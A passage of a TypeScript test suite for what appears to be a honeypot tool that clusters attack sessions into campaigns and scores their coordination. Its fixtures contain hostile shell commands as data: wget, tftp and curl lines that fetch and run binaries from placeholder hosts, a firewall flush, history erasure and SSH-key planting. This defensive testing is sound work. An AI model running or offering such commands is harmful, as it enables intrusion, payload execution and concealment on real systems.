      ip: ip(((k + 1) % 3) as 0 | 1 | 2, 170 + k),
      // Two bursts five days apart: two waves of the second variant.
      at: T0 + (k < 3 ? 3 * DAY : 8 * DAY) + k * HOUR,
      credentials: [login("root", "password", true)],
      commands: dropper(urlB, "kworkerd.arm7"),
      downloads: [{ url: urlB, sha256: shaB, filename: null }]
    }))
  }
  for (let k = 0; k < 5; k++) {
    out.push(session({
      id: `ssh-${k}`,
      ip: ip((k % 3) as 0 | 1 | 2, 190 + k),
      at: T0 + 5 * DAY + k * 3 * HOUR,
      keys: [key],
      commands: keyScript(key, randomToken(prng)),
      credentials: [login("root", "123456", true)]
    }))
  }
  for (let k = 0; k < 4; k++) {
    out.push(session({
      id: `beh-${k}`,
      ip: ip((k % 3) as 0 | 1 | 2, 210 + k),
      at: T0 + 10 * DAY + k * 5 * HOUR,
      credentials: [login("admin", "password", true)],
      commands: [
        "cat /etc/issue; uptime; nproc --all",
        `mkdir -p /var/tmp/${randomToken(prng)} && cd /var/tmp`,
        "grep -c ^processor /proc/cpuinfo; lspci | grep -i vga",
        "ulimit -n 65535; sysctl -w vm.nr_hugepages=128"
      ]
    }))
  }
  for (let k = 0; k < 3; k++) {
    out.push(session({ id: `cred-${k}`, ip: ip(((k + 2) % 3) as 0 | 1 | 2, 230 + k), at: T0 + (2 + 3 * k) * DAY, credentials: [login("support", "Qz7!mVw3#kL")] }))
  }
  return out
}

/** The hierarchy's structural rules, checked on any analysis. */
const expectConsistentHierarchy = (a: Analysis, sessionCount: number): void => {
  const byId = new Map(a.campaigns.map((c) => [c.id, c]))
  expect(byId.size).toBe(a.campaigns.length)
  const perLevel = new Map<string, Set<string>>()
  for (const c of a.campaigns) {
    expect(c.sessions).toEqual(sorted(c.sessions))
    expect(c.sessions.length).toBeGreaterThanOrEqual(DEFAULT_CONFIG.minSessions)
    if (c.parent_id === null) expect(c.level).toBe("family")
    else {
      const parent = byId.get(c.parent_id)
      expect(parent).toBeDefined()
      expect(c.level === "variant" ? ["family"] : ["family", "variant"]).toContain(parent!.level)
      const inParent = new Set(parent!.sessions)
      expect(c.sessions.filter((s) => !inParent.has(s))).toEqual([])
    }
    const seen = perLevel.get(c.level) ?? new Set<string>()
    for (const s of c.sessions) {
      expect(seen.has(s)).toBe(false)
      seen.add(s)
    }
    perLevel.set(c.level, seen)
    expect(c.confidence).toBeGreaterThanOrEqual(0)
    expect(c.confidence).toBeLessThanOrEqual(1)
    expect(c.confidence_interval[0]).toBeLessThanOrEqual(c.confidence)
    expect(c.confidence_interval[1]).toBeGreaterThanOrEqual(c.confidence)
  }
  expect(a.unclusteredSessions).toBe(sessionCount - (perLevel.get("family")?.size ?? 0))
}

/** What the campaigns are, without the numbers: ids, levels, parents, members. */
const membership = (a: Analysis): Array<string> =>
  a.campaigns.map((c) => `${c.level} ${c.id} <- ${c.parent_id ?? "-"}: ${c.sessions.join(",")}`)

describe("the campaign hierarchy on a richer world", () => {
  const world = richWorld()
  const analysis = analyze(world)

  test("finds the expected families, variants and waves", () => {
    const fam = (id: string): ReadonlyArray<string> => familyOf(analysis, id)?.sessions ?? []
    const drops = world.filter((s) => s.id.startsWith("drop-")).map((s) => s.id)
    expect(fam("drop-a0")).toEqual(sorted(drops))
    expect(fam("ssh-0")).toEqual(["ssh-0", "ssh-1", "ssh-2", "ssh-3", "ssh-4"])
    expect(fam("beh-0")).toEqual(["beh-0", "beh-1", "beh-2", "beh-3"])
    expect(fam("cred-0")).toEqual(["cred-0", "cred-1", "cred-2"])
    expect(families(analysis)).toHaveLength(4)

    const dropFamily = familyOf(analysis, "drop-a0")!
    const variants = analysis.campaigns.filter((c) => c.parent_id === dropFamily.id)
    expect(variants.map((v) => v.level)).toEqual(["variant", "variant"])
    expect(variants.map((v) => v.sessions).sort()).toEqual([
      ["drop-a0", "drop-a1", "drop-a2", "drop-a3", "drop-a4", "drop-a5"],
      ["drop-b0", "drop-b1", "drop-b2", "drop-b3", "drop-b4", "drop-b5"]
    ])
    const variantB = variants.find((v) => v.sessions.includes("drop-b0"))!
    const waves = analysis.campaigns.filter((c) => c.parent_id === variantB.id)
    expect(waves.map((w) => [w.level, w.sessions])).toEqual([
      ["wave", ["drop-b0", "drop-b1", "drop-b2"]],
      ["wave", ["drop-b3", "drop-b4", "drop-b5"]]
    ])
    expect(dropFamily.ttps).toContain("T1105")
  })

  test("every child's sessions ⊆ its parent's; a session is in at most one campaign per level", () => {
    expectConsistentHierarchy(analysis, world.length)
    expect(analysis.campaigns.some((c) => c.level === "variant")).toBe(true)
    expect(analysis.campaigns.some((c) => c.level === "wave")).toBe(true)
  })

  test("campaigns are listed family by family, largest first, each followed by its descendants", () => {
    const familyIndexes = analysis.campaigns.flatMap((c, i) => (c.level === "family" ? [i] : []))
    expect(familyIndexes[0]).toBe(0)
    const sizes = familyIndexes.map((i) => analysis.campaigns[i]!.sessions.length)
    expect(sizes).toEqual(sizes.slice().sort((x, y) => y - x))
    // Between two families only descendants of the first.
    const rootOf = (c: Campaign): string => {
      let cur = c
      while (cur.parent_id !== null) cur = analysis.campaigns.find((x) => x.id === cur.parent_id)!
      return cur.id
    }
    let currentFamily = ""
    for (const c of analysis.campaigns) {
      if (c.level === "family") currentFamily = c.id
      expect(rootOf(c)).toBe(currentFamily)
    }
  })

  test("the background stays unclustered", () => {
    expect(world.filter((s) => s.id.startsWith("bg") && clustered(analysis).has(s.id)).map((s) => s.id)).toEqual([])
  })
})

// ---------------------------------------------------------------------------------------
// determinism

describe("determinism", () => {
  const world = byStart(richWorld())

  test("analyzeSessions twice on the same sessions gives deep-equal results", () => {
    const first = analyzeSessions(world, DEFAULT_CONFIG)
    const second = analyzeSessions(world.map((s) => ({ ...s })), DEFAULT_CONFIG)
    expect(second).toEqual(first)
    expect(JSON.stringify(second)).toBe(JSON.stringify(first))
  })

  test("a different seed changes only the numbers, never the campaign membership", () => {
    const base = analyzeSessions(world, DEFAULT_CONFIG)
    let numbersDiffer = false
    for (const seed of [1, 7, 1234, 2 ** 31 + 5]) {
      const other = analyzeSessions(world, { ...DEFAULT_CONFIG, seed })
      expect(membership(other)).toEqual(membership(base))
      expect(other.unclusteredSessions).toBe(base.unclusteredSessions)
      expect(other.campaigns.map((c) => c.name)).toEqual(base.campaigns.map((c) => c.name))
      expect(other.campaigns.map((c) => c.indicators)).toEqual(base.campaigns.map((c) => c.indicators))
      if (JSON.stringify(other.campaigns.map((c) => [c.confidence, c.confidence_interval, c.evidence])) !==
        JSON.stringify(base.campaigns.map((c) => [c.confidence, c.confidence_interval, c.evidence]))) numbersDiffer = true
    }
    // The seed does drive the permutation tests and the bootstrap.
    expect(numbersDiffer).toBe(true)
  })

  test("a shuffled input order gives the same campaign membership (no session here is claimed by two identities)", () => {
    // analyzeSessions takes the order given (ingest sorts by start, id); the null draws are by
    // position, so only numbers may move, not who belongs to which campaign.
    const prng = new Prng(99, "shuffle")
    const shuffled = world.slice()
    for (let i = shuffled.length - 1; i > 0; i--) {
      const j = prng.int(i + 1)
      const t = shuffled[i]!
      shuffled[i] = shuffled[j]!
      shuffled[j] = t
    }
    expect(shuffled.map((s) => s.id)).not.toEqual(world.map((s) => s.id))
    const base = analyzeSessions(world, DEFAULT_CONFIG)
    const other = analyzeSessions(shuffled, DEFAULT_CONFIG)
    expect(membership(other)).toEqual(membership(base))
    expect(other.unclusteredSessions).toBe(base.unclusteredSessions)
  })

  test("the computed features do not depend on the seed and are reproducible", () => {
    const f1 = computeFeatures(world)
    const f2 = computeFeatures(world)
    expect(f2.artefactTable).toEqual(f1.artefactTable)
    expect(Array.from(f2.commandSetOf)).toEqual(Array.from(f1.commandSetOf))
    expect(Array.from(f2.artefactCarriers)).toEqual(Array.from(f1.artefactCarriers))
  })
})

// ---------------------------------------------------------------------------------------
// assessSessions

describe("assessSessions", () => {
  const reference = background(300, 131, "ref", 7)

  test("sessions all planting one key from different /24s are assessed as coordinated (≥ 0.8)", () => {
    const prng = new Prng(31, "assess-key")
    const key = sshKey(prng)
    const set = Array.from({ length: 12 }, (_, k) =>
      session({
        id: `set-${String(k).padStart(2, "0")}`,
        ip: ip((k % 3) as 0 | 1 | 2, 20 + k * 7),
        at: T0 + 2 * DAY + k * 20 * MINUTE,
        keys: [key],
        commands: keyScript(key, randomToken(prng)),
        credentials: [login("root", "123456", true)]
      })
    )
    const result = assessSessions(set, { config: DEFAULT_CONFIG, reference })
    expect(result.confidence).toBeGreaterThanOrEqual(0.8)
    expect(["highly_coordinated", "likely_coordinated"]).toContain(result.assessment)
    expect(result.null_population).toEqual({ kind: "reference", sessions: 300 })
    expect(result.indicators).toContainEqual({ type: "ssh_key", value: key })
    expect(result.sessions).toEqual(set.map((s) => s.id))
    expect(result.evidence.payload_similarity?.score).toBe(1)
    expect(result.ttps).toContain("T1098.004")
  })

  test("unrelated brute-force sessions are assessed below 0.4", () => {
    const set = background(12, 132, "bf", 7)
    const result = assessSessions(set, { config: DEFAULT_CONFIG, reference })
    expect(result.confidence).toBeLessThan(0.4)
    expect(["likely_coincidental", "coincidental"]).toContain(result.assessment)
    expect(result.null_population.kind).toBe("reference")
  })

  test("the reference excludes sessions of the set itself, and an empty set is an error", () => {
    const set = reference.slice(0, 10)
    const result = assessSessions(set, { config: DEFAULT_CONFIG, reference })
    expect(result.null_population).toEqual({ kind: "reference", sessions: 290 })
    expect(() => assessSessions([], { config: DEFAULT_CONFIG, reference })).toThrow(RangeError)
  })
})

// ---------------------------------------------------------------------------------------
// linkage ranked by strength (issue: detection on what analysts see)

describe("linkage ranked by strength", () => {
  const HIDE = "unset HISTORY HISTFILE HISTSAVE ; history -n ; export HISTFILE=/dev/null ; export HISTSIZE=0"
  const kitRun = (id: string, host: number, at: number): AttackSession =>
    session({ id, ip: ip((host % 3) as 0 | 1 | 2, host), at, credentials: [login("root", "123456", true)], commands: [HIDE, "uname", "ps -x", "free -m"] })

  test("a kit that dominates the log still forms one family: its commands repeat in one list", () => {
    const bg = background(20, 301)
    // 60 bots run the kit; only 20 background sessions run anything else.
    const kit = Array.from({ length: 60 }, (_, k) => kitRun(`kit-${k}`, 1 + k, T0 + k * HOUR))
    const a = analyze([...bg, ...kit])
    expect(familyOf(a, "kit-0")?.sessions).toEqual(sorted(kit.map((s) => s.id)))
    expect(familyOf(a, "kit-0")!.formed_by[0]!.kind).toBe("command_sequence")
    expect(bg.filter((s) => clustered(a).has(s.id))).toEqual([])
  })

  test("sessions without commands join their source's campaign within the window, and only then", () => {
    const kit = Array.from({ length: 4 }, (_, k) => kitRun(`kit-${k}`, 10 + k, T0 + k * DAY))
    const near = session({ id: "login-near", ip: ip(10 % 3 as 0 | 1 | 2, 10), at: T0 + 5 * 60_000, credentials: [login("root", "123456")] })
    const far = session({ id: "login-far", ip: ip(11 % 3 as 0 | 1 | 2, 11), at: T0 + DAY + 3 * HOUR, credentials: [login("root", "123456")] })
    const a = analyze([...background(30, 302), ...kit, near, far])
    const fam = familyOf(a, "kit-0")!
    expect(fam.sessions).toContain("login-near")
    expect(fam.sessions).not.toContain("login-far")
    expect(fam.formed_by.map((f) => f.kind)).toContain("same_source")
  })

  test("a source's further logins join its campaign but are not measured: they do not dilute its evidence", () => {
    const prng = new Prng(305, "attached-logins")
    const key = sshKey(prng)
    const planters = Array.from({ length: 12 }, (_, k) =>
      session({ id: `key-${k}`, ip: ip((k % 3) as 0 | 1 | 2, 120 + k), at: T0 + k * HOUR, credentials: [login("root", "123456", true)], keys: [key] })
    )
    // Each planting source also brute-forces: 15 login-only sessions within the window.
    const logins = planters.flatMap((p, k) =>
      Array.from({ length: 15 }, (_, m) =>
        session({ id: `login-${k}-${m}`, ip: p.src_ip!, at: T0 + k * HOUR + (m + 1) * 2 * MINUTE, credentials: [login("root", `w${m}x${k}`)] })
      )
    )
    const withLogins = analyze([...background(40, 306), ...planters, ...logins])
    const fam = familyOf(withLogins, "key-0")!
    expect(fam.sessions).toHaveLength(12 + 12 * 15)
    expect(fam.formed_by.map((f) => f.kind)).toEqual(["same_source", "ssh_key"])
    // The key is shared by all of what is measured, not by 12 of 192.
    expect(fam.evidence.payload_similarity!.score).toBe(1)
    expect(fam.evidence.payload_similarity!.detail).toContain("on 12 of its 192 sessions")
    // The same planters without their logins: the same confidence, to the rounding.
    const alone = familyOf(analyze([...background(40, 306), ...planters]), "key-0")!
    expect(alone.sessions).toHaveLength(12)
    expect(fam.confidence).toBeCloseTo(alone.confidence, 2)
    expect(fam.assessment).toBe(alone.assessment)
  })

  test("a family's check login tried by nearly all its sources is a variant of its login-only sessions; wordlist and listed pairs are not", () => {
    // Twelve bots plant one key; each also brute-forces and sends a check login
    // (name-derived, so a dictionary rule on the whole log) between its wordlist tries.
    const world = (sources: number, checkers: number) => {
      const prng = new Prng(307, "check-login")
      const key = sshKey(prng)
      const planters = Array.from({ length: sources }, (_, k) =>
        session({ id: `key-${k}`, ip: ip((k % 3) as 0 | 1 | 2, 130 + k), at: T0 + k * HOUR, credentials: [login("root", "123456", true)], keys: [key] })
      )
      const logins = planters.flatMap((p, k) => [
        ...(k < checkers ? [session({ id: `check-${k}`, ip: p.src_ip!, at: T0 + k * HOUR + MINUTE, credentials: [login("zq81botcheck", "zq81botcheck")] })] : []),
        // Listed: every bot tries it, and it still says nothing.
        session({ id: `listed-${k}`, ip: p.src_ip!, at: T0 + k * HOUR + 2 * MINUTE, credentials: [login("root", "root")] }),
        // Wordlist entries: each tried by a few of the bots.
        ...Array.from({ length: 4 }, (_, m) =>
          session({ id: `word-${k}-${m}`, ip: p.src_ip!, at: T0 + k * HOUR + (m + 3) * MINUTE, credentials: [login("root", `Wl${(k + m) % 6}x!q`)] })
        )
      ])
      return analyze([...background(40, 308), ...planters, ...logins])
    }
    const a = world(12, 11)
    const fam = familyOf(a, "key-0")!
    expect(fam.sessions).toContain("check-0")
    const variants = a.campaigns.filter((c) => c.parent_id === fam.id && c.level === "variant")
    const check = variants.find((v) => v.sessions.includes("check-0"))!
    expect(sorted(check.sessions)).toEqual(sorted(Array.from({ length: 11 }, (_, k) => `check-${k}`)))
    expect(check.name).toBe("logins zq81botcheck/zq81botcheck")
    // The key's variant is still its own; listed and wordlist logins are in no variant.
    expect(variants.find((v) => v.sessions.includes("key-0"))!.sessions).not.toContain("check-0")
    const inVariants = new Set(variants.flatMap((v) => v.sessions))
    for (let k = 0; k < 12; k++) expect(inVariants.has(`listed-${k}`)).toBe(false)
    for (let m = 0; m < 4; m++) expect(inVariants.has(`word-0-${m}`)).toBe(false)
    // Tried by 7 of 12 sources (under 80%), or by all of a family of fewer than 10: no variant.
    for (const [sources, checkers] of [[12, 7], [8, 8]] as const) {
      const b = world(sources, checkers)
      const f = familyOf(b, "key-0")!
      expect(b.campaigns.some((c) => c.parent_id === f.id && c.sessions.includes("check-0"))).toBe(false)
    }
  })

  test("sources walking one wordlist form one brute-force campaign; one shared dictionary pair does not", () => {
    // A long list (its entries are wordlist entries, not check logins), tried in one order.
    const list = Array.from({ length: 20 }, (_, k) => login("svc", `w${k}q${(k * 7919) % 1000}z`))
    const walkers = [0, 1, 2].map((k) =>
      session({ id: `walk-${k}`, ip: ip(k as 0 | 1 | 2, 40 + k), at: T0 + k * 7 * HOUR, credentials: list })
    )
    const shared = [0, 1].map((k) => session({ id: `dict-${k}`, ip: ip(k as 0 | 1 | 2, 60 + k), at: T0 + k * HOUR, credentials: [login("root", "dragon"), login("admin", `other${k}x`)] }))
    const a = analyze([...background(30, 303), ...walkers, ...shared])
    expect(familyOf(a, "walk-0")?.sessions).toEqual(["walk-0", "walk-1", "walk-2"])
    expect(familyOf(a, "walk-0")!.formed_by[0]!.kind).toBe("wordlist")
    // Named by its list, in the order it is tried, not "linked sessions".
    expect(familyOf(a, "walk-0")!.name).toBe("wordlist svc/w0q0z, svc/w1q919z +18")
    expect(familyOf(a, "dict-0")).toBeUndefined()
  })

  test("a wordlist campaign is named by its wordlist when only a minority of it shares an artefact", () => {
    // Three sources walk one list over four sessions each; two sessions of one source also
    // run the same command line: the family's most common artefact, carried by 2 of 12.
    const list = Array.from({ length: 20 }, (_, k) => login("svc", `m${k}n${(k * 7919) % 1000}y`))
    const walkers = [0, 1, 2].flatMap((k) =>
      [0, 1, 2, 3].map((m) =>
        session({
          id: `walk-${k}-${m}`,
          ip: ip(k as 0 | 1 | 2, 70 + k),
          at: T0 + k * 7 * HOUR + m * 10 * MINUTE,
          credentials: list.slice(m * 5, m * 5 + 5),
          commands: k === 0 && m < 2 ? ["uname -mn; cat /proc/zq81cpuinfo"] : []
        })
      )
    )
    const fam = familyOf(analyze([...background(30, 309), ...walkers]), "walk-1-0")!
    expect(fam.sessions).toHaveLength(12)
    expect(fam.formed_by[0]!.kind).toBe("wordlist")
    expect(fam.name.startsWith("wordlist svc/m0n0y")).toBe(true)
  })

  test("a wordlist links sources only within the weak window: a list walked again months later, or an address back after a long silence, starts apart", () => {
    const list = Array.from({ length: 20 }, (_, k) => login("svc", `p${k}r${(k * 7919) % 1000}t`))
    const walkers = [0, 1].map((k) => session({ id: `walk-${k}`, ip: ip(k as 0 | 1 | 2, 40 + k), at: T0 + k * 7 * HOUR, credentials: list }))
    // The same list from a third source 90 days on: a public list reused, not this campaign.
    const later = session({ id: "later", ip: ip(2, 42), at: T0 + 90 * DAY, credentials: list })
    // The first walker's address back 90 days on with other logins: not brought along.
    const back = session({ id: "back", ip: walkers[0]!.src_ip!, at: T0 + 90 * DAY + HOUR, credentials: [login("root", "Zq8#kd02"), login("admin", "Mv3!pp71")] })
    // Within the window (20 days on), the same list still joins.
    const soon = session({ id: "soon", ip: ip(2, 43), at: T0 + 20 * DAY, credentials: list })
    const a = analyze([...background(30, 307), ...walkers, later, back, soon])
    expect(familyOf(a, "walk-0")?.sessions).toEqual(["soon", "walk-0", "walk-1"])
    expect(familyOf(a, "later")).toBeUndefined()
    expect(familyOf(a, "back")).toBeUndefined()
    // With the window widened past the silence, both join: the window is what keeps them apart.
    const wide = analyzeSessions(byStart([...background(30, 307), ...walkers, later, back, soon]), { ...DEFAULT_CONFIG, weakWindowMs: 120 * DAY })
    expect(familyOf(wide, "walk-0")?.sessions).toEqual(["back", "later", "soon", "walk-0", "walk-1"])
  })

  test("a file name dropped by several unrelated behaviours no longer links them", () => {
    const behaviours = [
      ["cd /var/tmp; wget http://192.0.2.10/x86_64; chmod +x x86_64", "echo kit-one-marker-string done here"],
      ["tftp -g -r x86_64 192.0.2.20; chmod 777 x86_64; ./x86_64 telnet", "cat /proc/mounts; busybox ps"],
      ["curl -O http://192.0.2.30/x86_64 && sh x86_64 && rm -rf x86_64", "systemctl stop firewalld; iptables -F"]
    ]
    const sessions = behaviours.flatMap((commands, b) =>
      [0, 1, 2].map((k) => session({ id: `b${b}-${k}`, ip: ip(b as 0 | 1 | 2, 100 + 10 * b + k), at: T0 + (b * 3 + k) * HOUR, commands }))
    )
    const a = analyze([...background(30, 304), ...sessions])
    for (let b = 0; b < 3; b++) expect(familyOf(a, `b${b}-0`)?.sessions).toEqual([`b${b}-0`, `b${b}-1`, `b${b}-2`])
  })

  test("a weak group never bridges two cores: it joins the one it is tied to most", () => {
    const prng = new Prng(9, "bridge")
    const [k1, k2] = [sshKey(prng), sshKey(prng)]
    const core1 = [0, 1].map((k) => session({ id: `c1-${k}`, ip: ip(0, 70 + k), at: T0 + k * DAY, keys: [k1] }))
    const core2 = [0, 1].map((k) => session({ id: `c2-${k}`, ip: ip(1, 80 + k), at: T0 + k * DAY, keys: [k2] }))
    // A marker credential carried by sources of both cores: two ties to core 1, one to core 2.
    const marker = login("check", "Zr8!kq2Pw")
    const weak = [
      session({ id: "w-0", ip: ip(0, 70), at: T0 + 10 * 60_000, credentials: [marker] }),
      session({ id: "w-1", ip: ip(0, 71), at: T0 + DAY + 10 * 60_000, credentials: [marker] }),
      session({ id: "w-2", ip: ip(1, 80), at: T0 + 10 * 60_000, credentials: [marker] })
    ]
    const a = analyze([...background(30, 305), ...core1, ...core2, ...weak])
    expect(familyOf(a, "c1-0")?.sessions).toEqual(["c1-0", "c1-1", "w-0", "w-1", "w-2"])
    expect(familyOf(a, "c2-0")?.sessions).toEqual(["c2-0", "c2-1"])
  })

  test("a group from one source address is single-source activity with confidence 0", () => {
    const prng = new Prng(10, "single")
    const key = sshKey(prng)
    const one = [0, 1, 2].map((k) => session({ id: `one-${k}`, ip: ip(2, 99), at: T0 + k * DAY, keys: [key] }))
    const a = analyze([...background(30, 306), ...one])
    const fam = familyOf(a, "one-0")!
    expect(fam.assessment).toBe("single_source")
    expect(fam.confidence).toBe(0)
    expect(fam.confidence_interval).toEqual([0, 0])
  })
})
